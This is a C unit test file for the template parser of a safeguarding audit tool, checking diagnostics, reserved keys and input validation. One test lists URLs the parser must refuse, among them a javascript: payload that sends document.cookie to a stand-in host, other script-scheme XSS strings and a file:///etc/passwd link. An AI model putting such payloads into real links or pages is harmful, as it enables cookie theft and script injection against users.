/* Audit templates: the shipped files load; each kind of error is reported with its line. */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "sbuf.h"
#include "template.h"
#include "template_wording.h"
#include "testutil.h"

/* A small valid template; the line numbers matter to the tests below. */
static const char mini[] = "[template]\n"		     /* 1 */
			   "id = mini\n"		     /* 2 */
			   "title = Mini audit\n"	     /* 3 */
			   "version = 2\n"		     /* 4 */
			   "prompts = gp\n"		     /* 5 */
			   "evidence_required_at = ri\n"     /* 6 */
			   "\n"				     /* 7 */
			   "[grade good]\n"		     /* 8 */
			   "label = Good\n"		     /* 9 */
			   "key = g\n"			     /* 10 */
			   "\n"				     /* 11 */
			   "[grade ri]\n"		     /* 12 */
			   "label = Requires improvement\n"  /* 13 */
			   "key = r\n"			     /* 14 */
			   "\n"				     /* 15 */
			   "[grade na]\n"		     /* 16 */
			   "label = Not applicable\n"	     /* 17 */
			   "key = n\n"			     /* 18 */
			   "not_applicable = yes\n"	     /* 19 */
			   "\n"				     /* 20 */
			   "[agencies]\n"		     /* 21 */
			   "police = Police\n"		     /* 22 */
			   "health = Health\n"		     /* 23 */
			   "\n"				     /* 24 */
			   "[prompt gp]\n"		     /* 25 */
			   "label = Good practice\n"	     /* 26 */
			   "text = What went well?\n"	     /* 27 */
			   "\n"				     /* 28 */
			   "[section first]\n"		     /* 29 */
			   "title = First section\n"	     /* 30 */
			   "\n"				     /* 31 */
			   "[question q1]\n"		     /* 32 */
			   "section = first\n"		     /* 33 */
			   "text = Was the child seen?\n"    /* 34 */
			   "\n"				     /* 35 */
			   "[question q2]\n"		     /* 36 */
			   "section = first\n"		     /* 37 */
			   "text = Anything else to note?\n" /* 38 */
			   "kind = text\n";		     /* 39 */

/* mini with the first occurrence of `from` replaced by `to`. */
static char *edit(const char *from, const char *to)
{
	const char *at = strstr(mini, from);
	assert_non_null(at);
	return str_fmt("%.*s%s%s", (int)(at - mini), mini, to, at + strlen(from));
}

static struct template *load(const char *text, struct diag_list *diags)
{
	struct template *t = NULL;
	int rc = template_parse("mini.ini", text, strlen(text), &t, diags);
	assert_true((rc == 0) == (t != NULL));
	return t;
}

/* The text must fail with a problem on `line` mentioning `needle`. */
static void expect_problem(const char *text, int line, const char *needle)
{
	struct diag_list diags = {0};
	struct template *t = load(text, &diags);
	assert_null(t);
	bool found = false;
	for (size_t i = 0; i < diags.n; i++)
		if (diags.items[i].line == line && strstr(diags.items[i].msg, needle))
			found = true;
	if (!found) {
		for (size_t i = 0; i < diags.n; i++)
			print_error("  got %d: %s\n", diags.items[i].line, diags.items[i].msg);
		fail_msg("no problem on line %d mentioning \"%s\"", line, needle);
	}
	diag_list_free(&diags);
}

static void expect_edit_problem(const char *from, const char *to, int line, const char *needle)
{
	char *text = edit(from, to);
	expect_problem(text, line, needle);
	free(text);
}

/* Like expect_edit_problem, and that problem is the only one: no knock-on errors. */
static void expect_only_problem(const char *from, const char *to, int line, const char *needle)
{
	char *text = edit(from, to);
	struct diag_list diags = {0};
	struct template *t = load(text, &diags);
	assert_null(t);
	if (diags.n != 1 || diags.items[0].line != line || !strstr(diags.items[0].msg, needle)) {
		for (size_t i = 0; i < diags.n; i++)
			print_error("  got %d: %s\n", diags.items[i].line, diags.items[i].msg);
		fail_msg("not just one problem, on line %d mentioning \"%s\"", line, needle);
	}
	diag_list_free(&diags);
	free(text);
}

static void test_mini_loads(void **state)
{
	(void)state;
	struct diag_list diags = {0};
	struct template *t = load(mini, &diags);
	assert_non_null(t);
	assert_int_equal(diags.n, 0);
	assert_string_equal(t->id, "mini");
	assert_int_equal(t->version, 2);
	assert_string_equal(t->theme, "Mini audit"); /* defaults to the title */
	assert_string_equal(t->layout, "standard");
	assert_true(t->findings);
	assert_int_equal(t->ngrades, 3);
	assert_int_equal(t->agencies.n, 2);
	assert_string_equal(t->agencies.items[1].label, "Health");
	assert_int_equal(t->nsections, 1);
	assert_int_equal(t->sections[0].nquestions, 2);
	assert_int_equal(t->sections[0].nprompts, 1);
	assert_int_equal(t->questions[1].kind, QUESTION_TEXT);
	assert_int_equal(strlen(t->hash), 64);
	assert_int_equal(t->source_len, strlen(mini));
	template_free(t);
}

/* The one label every view shows a value with: grade, yes-no value, or the value itself. */
static void test_value_label(void **state)
{
	(void)state;
	struct diag_list diags = {0};
	struct template *t = load(mini, &diags);
	assert_non_null(t);
	const struct question graded = {.kind = QUESTION_GRADED};
	const struct question yesno = {.kind = QUESTION_YESNO};
	const struct question text = {.kind = QUESTION_TEXT};
	assert_string_equal(template_value_label(t, &graded, "ri"), "Requires improvement");
	assert_string_equal(template_value_label(t, &graded, "gone"), "gone");
	assert_string_equal(template_value_label(t, &yesno, "no"), "No");
	assert_string_equal(template_value_label(t, &yesno, "ri"), "ri");
	assert_string_equal(template_value_label(t, &text, "good"), "good");
	assert_string_equal(template_value_label(t, &graded, ""), "");
	assert_string_equal(template_value_label(t, &yesno, NULL), "");
	/* A question the template no longer has: the value as it was written. */
	assert_string_equal(template_value_label(t, NULL, "ri"), "ri");
	template_free(t);
	diag_list_free(&diags);
}

static void test_evidence_rule_and_values(void **state)
{
	(void)state;
	struct diag_list diags = {0};
	struct template *t = load(mini, &diags);
	assert_non_null(t);
	const struct question *q1 = template_question(t, "q1");
	assert_non_null(q1);
	assert_false(template_needs_evidence(t, q1, "good"));
	assert_true(template_needs_evidence(t, q1, "ri"));
	assert_false(template_needs_evidence(t, q1, "na")); /* not applicable never counts */
	assert_true(template_value_valid(t, q1, "good"));
	assert_true(template_value_valid(t, q1, ""));
	assert_false(template_value_valid(t, q1, "excellent"));
	assert_ptr_equal(template_grade_by_key(t, 'R'), &t->grades[1]);
	assert_null(template_grade_by_key(t, 'x'));
	assert_null(template_question(t, "q9"));
	template_free(t);
}

static void test_shipped_templates_load(void **state)
{
	(void)state;
	const char *names[] = {"domestic-abuse", "multi-agency-practice"};
	for (size_t i = 0; i < 2; i++) {
		char *path = str_fmt("%s/audit-templates/%s.ini", tu_source_dir(), names[i]);
		struct diag_list diags = {0};
		struct template *t = NULL;
		int rc = template_load_file(path, &t, &diags);
		diag_print(&diags, stderr);
		assert_int_equal(rc, 0);
		assert_string_equal(t->id, names[i]);
		assert_int_equal(t->ngrades, 5);
		assert_string_equal(t->grades[0].label, "Outstanding");
		assert_true(t->grades[4].not_applicable);
		assert_true(t->nsections >= 7);
		for (size_t s = 0; s < t->nsections; s++) {
			assert_true(t->sections[s].nquestions > 0);
			assert_int_equal(t->sections[s].nprompts, 3);
		}
		assert_true(t->agencies.n >= 6);
		assert_true(t->tags.n > 0 && t->age_bands.n > 0 && t->plan_statuses.n > 0);
		/* Every question is found by its id (a binary search over ids in file order
		 * would miss some), and near misses are not. */
		for (size_t q = 0; q < t->nquestions; q++) {
			assert_ptr_equal(template_question(t, t->questions[q].id),
					 &t->questions[q]);
			char *longer = str_fmt("%s-", t->questions[q].id);
			assert_null(template_question(t, longer));
			free(longer);
		}
		assert_null(template_question(t, ""));
		assert_null(template_question(t, "zzzz"));
		template_free(t);
		diag_list_free(&diags);
		free(path);
	}
}

static void test_domestic_abuse_covers_inspection_themes(void **state)
{
	(void)state;
	char *path = str_fmt("%s/audit-templates/domestic-abuse.ini", tu_source_dir());
	struct diag_list diags = {0};
	struct template *t = NULL;
	assert_int_equal(template_load_file(path, &t, &diags), 0);
	assert_int_equal(t->nsections, 9);
	const char *themes[] = {"identification", "voice", "unborn"};
	for (size_t i = 0; i < 3; i++) {
		bool found = false;
		for (size_t s = 0; s < t->nsections; s++)
			found = found || strstr(t->sections[s].id, themes[i]) != NULL;
		assert_true(found);
	}
	assert_non_null(named_find(&t->tags, "nrpf"));
	template_free(t);
	free(path);
}

/* q quits, u undoes and h shows the history on every screen: a template file may not take them
 * for grades (in either case); an audit's stored copy that has one still loads. */
static void test_reserved_grade_keys(void **state)
{
	(void)state;
	char *dir = tu_tempdir();
	char *rag = str_fmt("%s/tests/templates/rag.ini", tu_source_dir());
	char *text = tu_read(rag, NULL);
	assert_non_null(text);
	struct diag_list diags = {0};
	struct template *t;
	assert_int_equal(template_load_file(rag, &t, &diags), 0); /* k for Not known is fine */
	assert_non_null(template_grade_by_key(t, 'k'));
	template_free(t);
	const char *reserved[] = {"q", "U", "h"};
	for (size_t i = 0; i < 3; i++) {
		char *to = str_fmt("key = %s", reserved[i]);
		char *at = strstr(text, "key = k");
		assert_non_null(at);
		char *bad = str_fmt("%.*s%s%s", (int)(at - text), text, to, at + strlen("key = k"));
		char *path = tu_write(dir, "bad.ini", bad);
		assert_int_equal(template_load_file(path, &t, &diags), -1);
		assert_int_equal(diags.n, 1);
		assert_non_null(strstr(diags.items[0].msg, "is reserved"));
		assert_int_equal(diags.items[0].line, 29);
		diag_list_free(&diags);
		/* The same text as an audit keeps it: read, so old audits still open. */
		assert_int_equal(template_parse("stored", bad, strlen(bad), &t, &diags), 0);
		assert_true(template_key_reserved(t->grades[3].key));
		template_free(t);
		free(path);
		free(bad);
		free(to);
	}
	assert_false(template_key_reserved('k'));
	assert_false(template_key_reserved('1'));
	free(text);
	free(rag);
	tu_remove_tree(dir);
	free(dir);
}

/* A scale says in its own colours how to draw it, and which grades are a concern ("below the
 * line"): concern_at, else requires-improvement, else the worse half. */
static void test_colours_and_concern(void **state)
{
	(void)state;
	struct diag_list diags = {0};
	struct template *t = load(mini, &diags);
	assert_non_null(t);
	assert_string_equal(t->grades[0].colour, "");
	assert_int_equal(t->concern_at, 1); /* no requires-improvement id: the worse half */
	template_free(t);
	char *text = edit("key = g\n", "key = g\ncolour = 00703C\n");
	t = load(text, &diags);
	assert_non_null(t);
	assert_string_equal(t->grades[0].colour, "#00703c");
	template_free(t);
	free(text);
	text = edit("key = g\n", "key = g\ncolour = \"#d4351c\"\n");
	t = load(text, &diags);
	assert_non_null(t);
	assert_string_equal(t->grades[0].colour, "#d4351c");
	template_free(t);
	free(text);
	text =
	    edit("evidence_required_at = ri\n", "evidence_required_at = ri\nconcern_at = good\n");
	t = load(text, &diags);
	assert_non_null(t);
	assert_int_equal(t->concern_at, 0);
	template_free(t);
	free(text);
	expect_edit_problem(
	    "key = g\n", "key = g\ncolour = green\n", 11,
	    "colour must be six hexadecimal digits such as 00703c (or \"#00703c\" in "
	    "quotes), not 'green'");
	expect_edit_problem("key = g\n", "key = g\ncolour = \"#00703\"\n", 11, "colour must be");
	expect_edit_problem("evidence_required_at = ri\n", "concern_at = amber\n", 6,
			    "concern_at: unknown grade 'amber'");
	expect_edit_problem("evidence_required_at = ri\n", "concern_at = na\n", 6,
			    "concern_at: 'na' is a not-applicable grade");
	/* The shipped Ofsted scale: Requires improvement to be good and below. */
	char *path = str_fmt("%s/audit-templates/domestic-abuse.ini", MACA_SOURCE_DIR);
	assert_int_equal(template_load_file(path, &t, &diags), 0);
	assert_string_equal(t->grades[t->concern_at].id, "requires-improvement");
	template_free(t);
	free(path);
	diag_list_free(&diags);
}

/* [field FORM.FIELD]: a template's own wording for a form's field, and whether it applies;
 * form_reword puts it on the form, hiding what does not apply and empty template lists. */
static void test_form_wording(void **state)
{
	(void)state;
	char *text = str_fmt("%s\n[field case.plan_status]\napplies = no\n"	      /* 40-42 */
			     "\n[field good-practice.text]\nlabel = What went well\n" /* 43-45 */
			     "help = e.g. The nurse saw the child alone.\n",	      /* 46 */
			     mini);
	struct diag_list diags = {0};
	struct template *t = load(text, &diags);
	free(text);
	assert_non_null(t);
	assert_int_equal(t->nwording, 2);
	const struct form_wording *w = template_wording(t, "case", "plan_status");
	assert_non_null(w);
	assert_false(w->applies);
	assert_null(w->label);
	w = template_wording(t, "good-practice", "text");
	assert_non_null(w);
	assert_true(w->applies);
	assert_string_equal(w->label, "What went well");
	assert_string_equal(w->help, "e.g. The nurse saw the child alone.");
	assert_null(template_wording(t, "case", "text"));

	/* On the shipped case form: plan status hidden (the template says so), age band hidden
	 * (an empty list of the template's), tags shown, the reference (required) never. */
	struct form *form = NULL;
	char *path = str_fmt("%s/forms/case.ini", tu_source_dir());
	assert_int_equal(form_load_file(path, &form, &diags), 0);
	free(path);
	struct named_list none = {0};
	struct form_context ctx = {{0}};
	ctx.lists[CHOICES_TAGS] = &t->agencies; /* any list that is not empty */
	ctx.lists[CHOICES_AGE_BANDS] = &none;
	ctx.lists[CHOICES_PLAN_STATUSES] = &t->agencies;
	assert_true(form_reword(form, t, &ctx));
	for (size_t i = 0; i < form->nfields; i++) {
		const struct form_field *f = &form->fields[i];
		bool hide = strcmp(f->id, "plan_status") == 0 || strcmp(f->id, "age_band") == 0;
		if (f->hidden != hide)
			fail_msg("field %s: hidden %d", f->id, f->hidden);
	}
	form_free(form);
	/* The good practice form takes the label and help. */
	path = str_fmt("%s/forms/good-practice.ini", tu_source_dir());
	assert_int_equal(form_load_file(path, &form, &diags), 0);
	free(path);
	assert_true(form_reword(form, t, NULL));
	assert_string_equal(form->fields[0].label, "What went well");
	assert_string_equal(form->fields[0].help, "e.g. The nurse saw the child alone.");
	assert_false(form->fields[0].hidden);
	form_free(form);
	template_free(t);
	diag_list_free(&diags);

	/* Problems, at their lines. */
	text = str_fmt("%s\n[field case]\nhelp = x\n", mini);
	expect_problem(text, 41, "[field FORM.FIELD]");
	free(text);
	text = str_fmt("%s\n[field casefile.reference]\nhelp = x\n", mini);
	expect_problem(text, 41, "FORM one of audit, case");
	free(text);
	text = str_fmt("%s\n[field case.reference]\napplies = maybe\n", mini);
	expect_problem(text, 42, "applies must be yes or no");
	free(text);
	text = str_fmt("%s\n[field case.reference]\nexample = x\n", mini);
	expect_problem(text, 42, "unknown key 'example'");
	free(text);
}

static void test_empty_file(void **state)
{
	(void)state;
	expect_problem("", 0, "empty");
}

static void test_unknown_section_and_key(void **state)
{
	(void)state;
	char *text = str_fmt("%s\n[colour scheme]\nx = 1\n", mini);
	expect_problem(text, 41, "unknown block [colour scheme]");
	free(text);
	expect_edit_problem("key = g\n", "key = g\nshade = green\n", 11, "unknown key 'shade'");
}

static void test_missing_required_key_is_reported_at_its_section(void **state)
{
	(void)state;
	expect_edit_problem("label = Good\n", "", 8, "missing the required key 'label'");
	expect_edit_problem("version = 2\n", "", 1, "'version'");
}

static void test_missing_sections(void **state)
{
	(void)state;
	expect_edit_problem("[agencies]\npolice = Police\nhealth = Health\n", "", 0, "[agencies]");
	expect_edit_problem("[template]\nid = mini\ntitle = Mini audit\nversion = 2\nprompts = "
			    "gp\nevidence_required_at = ri\n",
			    "", 0, "[template]");
}

static void test_duplicate_grade_key_letter(void **state)
{
	(void)state;
	expect_edit_problem("key = r\n", "key = G\n", 14, "duplicate grade key");
}

static void test_unknown_grade(void **state)
{
	(void)state;
	expect_edit_problem("evidence_required_at = ri\n", "evidence_required_at = poor\n", 6,
			    "unknown grade 'poor'");
	expect_edit_problem("evidence_required_at = ri\n", "evidence_required_at = na\n", 6,
			    "not-applicable");
}

static void test_dangling_references(void **state)
{
	(void)state;
	expect_edit_problem("section = first\ntext = Was", "section = second\ntext = Was", 33,
			    "no [section second]");
	expect_edit_problem("prompts = gp\n", "prompts = gp, recs\n", 5, "no [prompt recs]");
}

static void test_section_without_questions(void **state)
{
	(void)state;
	char *text = str_fmt("%s\n[section empty]\ntitle = Nothing here\n", mini);
	expect_problem(text, 41,
		       "[section empty] has no questions: add a [question ID] block with section = "
		       "empty, or delete this block");
	free(text);
}

static void test_value_too_long(void **state)
{
	(void)state;
	struct sbuf b = {0};
	sbuf_add(&b, "label = ");
	for (int i = 0; i < 61; i++)
		sbuf_add(&b, "é"); /* counted in characters, not bytes */
	sbuf_add(&b, "\n");
	char *label = sbuf_take(&b);
	expect_edit_problem("label = Good\n", label, 9, "the limit is 60");
	free(label);
}

/* A template's title, theme and labels become an audit's theme and agency names, sent in
 * packs and returns and printed in lists: no control characters (issue 14, item 7). */
static void test_control_characters_refused(void **state)
{
	(void)state;
	expect_edit_problem("title = Mini audit\n", "title = Mini\x1b[31m audit\n", 3,
			    "title holds a control character (U+001B)");
	expect_edit_problem("police = Police\n", "police = Pol\xc2\x9bice\n", 22,
			    "police holds a control character (U+009B)");
	expect_edit_problem("label = Good\n", "label = Go\tod\n", 9, "label holds a tab (U+0009)");
}

static void test_bad_numbers_booleans_and_choices(void **state)
{
	(void)state;
	expect_edit_problem("version = 2\n", "version = two\n", 4, "positive whole number");
	expect_edit_problem("version = 2\n", "version = 0\n", 4, "positive whole number");
	expect_edit_problem("version = 2\n", "version = +2\n", 4, "positive whole number");
	expect_edit_problem("not_applicable = yes\n", "not_applicable = true\n", 19, "yes or no");
	expect_edit_problem("kind = text\n", "kind = essay\n", 39, "graded, yes-no or text");
	expect_edit_problem("version = 2\n", "version = 2\nlayout = poster\n", 5, "seven-minute");
	expect_edit_problem("key = g\n", "key = gg\n", 10, "one letter or digit");
}

static void test_bad_ids(void **state)
{
	(void)state;
	expect_edit_problem("[question q2]", "[question q 2]", 36, "not a valid id");
	expect_edit_problem("police = Police", "police! = Police", 22, "may use only");
	expect_edit_problem("id = mini\n", "id = -mini\n", 2, "not valid");
}

static void test_ini_traps_are_reported_through_the_loader(void **state)
{
	(void)state;
	expect_edit_problem("text = Was the child seen?", "text = Was the child seen; alone?", 34,
			    "double quotes");
	expect_edit_problem("[agencies]\npolice = Police\n",
			    "[agencies]\npolice = Police\npolice "
			    "= Police service\n",
			    23, "repeats the one on line 22");
}

/* A template written from the manual alone: each mistake is reported at the line to change,
 * naming the field and saying what to write, without knock-on errors. */
static void test_mistakes_are_reported_with_their_fix(void **state)
{
	(void)state;
	/* Curly quotes are not quote marks: said so, with the value in straight ones. */
	expect_only_problem(
	    "text = Was the child seen?",
	    "text = \xe2\x80\x9cWas the child seen; alone?\xe2\x80\x9d", 34,
	    "text: the value starts with a curly quote \xe2\x80\x9c (U+201C), which is "
	    "not a quote mark");
	/* A value checked against its few values is not also measured. */
	expect_only_problem("version = 2\n", "version = 2\nfindings = true\n", 5,
			    "findings must be yes or no, not 'true'");
	expect_only_problem("not_applicable = yes\n", "not_applicable = maybe\n", 19, "yes or no");
	/* A header without its id, and nothing piled on (ri is the default evidence grade). */
	expect_only_problem("[grade ri]", "[grade]", 12, "write [grade ID], such as [grade good]");
	expect_only_problem("[question q2]", "[question]", 36, "write [question ID]");
	expect_only_problem("[section first]", "[section]", 29, "write [section ID]");
	expect_only_problem("[prompt gp]", "[prompt]", 25, "write [prompt ID]");
	/* Two spaces between kind and id. */
	expect_only_problem(
	    "[question q2]", "[question  q2]", 36,
	    "write exactly one space between question and the id, as in [question q2]");
	/* An invisible character is named by what it is and its code point. */
	expect_only_problem("key = g\n", "key = g\xc2\xa0\n", 10,
			    "not 'g\xc2\xa0'; it holds a no-break space (U+00A0)");
	expect_only_problem("kind = text\n", "kind = text\xe2\x80\x8b\n", 39,
			    "zero-width space, which is invisible (U+200B)");
	expect_only_problem("label = Good\n", "label = Go\tod\n", 9, "label holds a tab (U+0009)");
	/* An empty [agencies] at its line. */
	expect_only_problem("police = Police\nhealth = Health\n", "", 21,
			    "[agencies] lists no agency: add a line for each");
	/* An id too long, with its length; other bad ids, with the reason. */
	expect_only_problem("[question q2]",
			    "[question q2-with-a-name-far-longer-than-forty-chars]", 36,
			    "it is 42 characters long; the limit is 40");
	expect_only_problem("[question q2]", "[question q.2]", 36, "it holds '.'");
	expect_only_problem("id = mini\n", "id = Mini\n", 2,
			    "id 'Mini' is not valid: it holds the capital M");
	/* A repeated id: "block", not "section", and the fix. */
	expect_only_problem("[question q2]", "[question q1]", 36,
			    "[question q1] repeats the one on line 32: give this block another id");
	/* An empty required value, at its own line. */
	expect_only_problem("label = Good\n", "label =\n", 9,
			    "label is empty: [grade good] needs one");
	expect_only_problem("label = Good\n", "label = \"\"\n", 9, "label is empty");
	/* A misspelt key, block or id gets "did you mean"; an unknown one the keys there are. */
	expect_only_problem("kind = text\n", "kind = text\nevidense_required_at = ri\n", 40,
			    "unknown key 'evidense_required_at' in [question q2]: did you mean "
			    "'evidence_required_at'?");
	expect_only_problem("key = g\n", "key = g\nshade = green\n", 11,
			    "this block takes label, key, not_applicable and colour");
	expect_only_problem("[grade ri]", "[grades ri]", 12, "did you mean [grade ri]?");
	expect_only_problem("[agencies]", "[agency]", 21, "did you mean [agencies]?");
	expect_edit_problem("[agencies]", "[people]", 21, "unknown block [people]: a template has");
	expect_only_problem("evidence_required_at = ri\n", "evidence_required_at = r1\n", 6,
			    "unknown grade 'r1'; did you mean 'ri'?");
	expect_only_problem("section = first\ntext = Anything", "section = frist\ntext = Anything",
			    37, "no [section frist] in this file; did you mean first?");
	/* Both questions name a misspelt section: the misspelling, not the empty section. */
	struct diag_list diags = {0};
	char *text = edit("section = first\ntext = Was", "section = frist\ntext = Was");
	char *both = str_fmt("%.*s%s", (int)(strstr(text, "[question q2]") - text), text,
			     "[question q2]\nsection = frist\ntext = Else?\n");
	assert_null(load(both, &diags));
	assert_int_equal(diags.n, 2);
	assert_int_equal(diags.items[0].line, 33);
	assert_non_null(strstr(diags.items[1].msg, "did you mean first?"));
	diag_list_free(&diags);
	free(both);
	free(text);
	/* A comment after an unquoted value: the fix quotes the value only. */
	expect_only_problem("key = g\n", "key = g  ; good\n", 10, "write key = \"g\" ; good");
}

static void test_hash_follows_content(void **state)
{
	(void)state;
	struct diag_list diags = {0};
	struct template *a = load(mini, &diags);
	char *changed = edit("Mini audit", "Mini audit, revised");
	struct template *b = load(changed, &diags);
	struct template *c = load(mini, &diags);
	assert_string_not_equal(a->hash, b->hash);
	assert_string_equal(a->hash, c->hash);
	template_free(a);
	template_free(b);
	template_free(c);
	free(changed);
}

/* A resource's url becomes a link in the HTML and Word briefings: only http, https and mailto,
 * whatever case or blanks and control characters are tried around the scheme. */
static void test_resource_url_schemes(void **state)
{
	(void)state;
	const char *refused[] = {
	    "javascript:fetch('https://x.example/'+document.cookie)",
	    "JaVaScRiPt:alert(1)",
	    "\"  javascript:alert(1)\"",
	    "java\tscript:alert(1)",
	    "java\xc2\x85script:alert(1)",
	    "data:text/html;base64,PHNjcmlwdD4=",
	    "vbscript:msgbox(1)",
	    "file:///etc/passwd",
	    "//evil.example/x",
	    "docs/procedures.html",
	    "http:alert(1)",
	    "https:///nohost",
	    "mailto:",
	    "\xef\xbd\x8a"
	    "avascript:alert(1)", /* fullwidth j */
	};
	for (size_t i = 0; i < sizeof refused / sizeof refused[0]; i++) {
		char *text = str_fmt("%s[resource r]\ntitle = R\nurl = %s\n", mini, refused[i]);
		expect_problem(text, 42, "url");
		free(text);
	}
	const char *allowed[] = {"https://www.gov.uk/x?a=1", "HTTP://example.org",
				 "Https://example.org/a b", "mailto:chair@example.org",
				 "MAILTO:chair@example.org"};
	for (size_t i = 0; i < sizeof allowed / sizeof allowed[0]; i++) {
		char *text = str_fmt("%s[resource r]\ntitle = R\nurl = %s\n", mini, allowed[i]);
		struct diag_list diags = {0};
		struct template *t = load(text, &diags);
		assert_non_null(t);
		assert_string_equal(t->resources[0].url, allowed[i]);
		template_free(t);
		free(text);
	}
}

/* The one linear search by id (sbuf.h): the element whose string member at an offset is the
 * key, whole. */
static void test_str_ascii_lower(void **state)
{
	(void)state;
	char *l = str_ascii_lower("Police CSC-1 \xc3\x89t\xc3\xa9");
	assert_string_equal(l, "police csc-1 \xc3\x89t\xc3\xa9"); /* only ASCII folds */
	free(l);
	assert_null(str_ascii_lower(NULL));
}

static void test_array_find(void **state)
{
	(void)state;
	struct row {
		int n;
		char *name;
	} rows[] = {{1, "a"}, {2, "bb"}, {3, "c"}};
	size_t at = offsetof(struct row, name);
	assert_ptr_equal(array_find(rows, 3, sizeof *rows, at, "a"), &rows[0]);
	assert_ptr_equal(array_find(rows, 3, sizeof *rows, at, "bb"), &rows[1]);
	assert_ptr_equal(array_find(rows, 3, sizeof *rows, at, "c"), &rows[2]);
	assert_null(array_find(rows, 3, sizeof *rows, at, "b"));
	assert_null(array_find(rows, 3, sizeof *rows, at, ""));
	assert_null(array_find(rows, 2, sizeof *rows, at, "c"));
	assert_null(array_find(NULL, 0, sizeof *rows, at, "a"));
}

/* A record known by two members together: both must match, on the same element. */
static void test_array_find2(void **state)
{
	(void)state;
	struct row {
		char *agency;
		int n;
		char *question;
	} rows[] = {{"police", 1, "q1"}, {"health", 2, "q1"}, {"police", 3, "q2"}};
	size_t a = offsetof(struct row, agency), q = offsetof(struct row, question);
	assert_ptr_equal(array_find2(rows, 3, sizeof *rows, a, "police", q, "q1"), &rows[0]);
	assert_ptr_equal(array_find2(rows, 3, sizeof *rows, a, "health", q, "q1"), &rows[1]);
	assert_ptr_equal(array_find2(rows, 3, sizeof *rows, a, "police", q, "q2"), &rows[2]);
	assert_null(array_find2(rows, 3, sizeof *rows, a, "health", q, "q2"));
	assert_null(array_find2(rows, 3, sizeof *rows, a, "q1", q, "police"));
	assert_null(array_find2(rows, 2, sizeof *rows, a, "police", q, "q2"));
	assert_null(array_find2(NULL, 0, sizeof *rows, a, "police", q, "q1"));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_mini_loads),
	    cmocka_unit_test(test_value_label),
	    cmocka_unit_test(test_evidence_rule_and_values),
	    cmocka_unit_test(test_shipped_templates_load),
	    cmocka_unit_test(test_domestic_abuse_covers_inspection_themes),
	    cmocka_unit_test(test_colours_and_concern),
	    cmocka_unit_test(test_form_wording),
	    cmocka_unit_test(test_empty_file),
	    cmocka_unit_test(test_unknown_section_and_key),
	    cmocka_unit_test(test_missing_required_key_is_reported_at_its_section),
	    cmocka_unit_test(test_missing_sections),
	    cmocka_unit_test(test_duplicate_grade_key_letter),
	    cmocka_unit_test(test_unknown_grade),
	    cmocka_unit_test(test_dangling_references),
	    cmocka_unit_test(test_section_without_questions),
	    cmocka_unit_test(test_value_too_long),
	    cmocka_unit_test(test_control_characters_refused),
	    cmocka_unit_test(test_bad_numbers_booleans_and_choices),
	    cmocka_unit_test(test_bad_ids),
	    cmocka_unit_test(test_ini_traps_are_reported_through_the_loader),
	    cmocka_unit_test(test_mistakes_are_reported_with_their_fix),
	    cmocka_unit_test(test_hash_follows_content),
	    cmocka_unit_test(test_resource_url_schemes),
	    cmocka_unit_test(test_reserved_grade_keys),
	    cmocka_unit_test(test_array_find),
	    cmocka_unit_test(test_array_find2),
	    cmocka_unit_test(test_str_ascii_lower),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
